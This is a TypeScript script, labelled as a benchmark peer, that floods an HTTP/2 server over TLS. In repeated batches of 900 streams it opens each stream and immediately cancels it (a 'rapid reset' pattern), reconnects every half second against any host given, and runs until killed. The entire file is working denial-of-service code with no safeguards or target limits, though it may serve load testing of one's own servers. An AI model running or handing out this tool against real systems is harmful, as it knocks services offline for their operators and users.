// bench · a peer with a valid certificate that opens and resets streams as fast as it is read, and connects again every half second:
// `node h2-abuse.ts HOST PORT CERTIFICATE KEY AUTHORITY`. Runs until it is killed; prints a line when it has sent its first streams.
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";

const [host = "", port = "", certificate = "", key = "", authority = ""] = process.argv.slice(2);
const CONNECT_AGAIN_MS = 500;
const STREAMS_OF_ONE_WRITE = 900;
const options = {
  ...({ host, port: Number(port), minVersion: "TLSv1.3", ALPNProtocols: ["h2"], rejectUnauthorized: false } as const),
  ...{ cert: readFileSync(certificate), key: readFileSync(key) },
};

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const END_HEADERS = 4;
const CANCEL = 8;

/** RFC 9113 §4.1. */
function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literal without indexing (RFC 7541 §6.2.2); both shorter than 127 bytes. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

const hello = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, Buffer.alloc(0))]);
const request = Buffer.concat([literal(":method", "CONNECT"), literal(":authority", authority)]);
const cancel = Buffer.from([0, 0, 0, CANCEL]);

/** Streams from `first` on, each opened and reset. */
function streams(first: number): Buffer {
  const parts = Array.from({ length: STREAMS_OF_ONE_WRITE }, (_, at) => {
    const id = 1 + 2 * (first + at);
    return Buffer.concat([frame(HEADERS, END_HEADERS, id, request), frame(RST_STREAM, 0, id, cancel)]);
  });
  return Buffer.concat(parts);
}

async function abuse(socket: TLSSocket): Promise<void> {
  await once(socket, "secureConnect");
  socket.resume();
  socket.write(hello);
  const end = performance.now() + CONNECT_AGAIN_MS;
  for (let first = 0; performance.now() < end && !socket.destroyed; first += STREAMS_OF_ONE_WRITE) {
    const taken = socket.write(streams(first));
    if (first === 0) process.stdout.write("at work\n");
    await (taken ? sleep(1) : Promise.race([once(socket, "drain"), sleep(CONNECT_AGAIN_MS)]));
  }
}

for (;;) {
  const socket = connect(options);
  await Promise.race([abuse(socket).catch(() => sleep(1)), once(socket, "close").catch(() => {})]);
  socket.destroy();
}
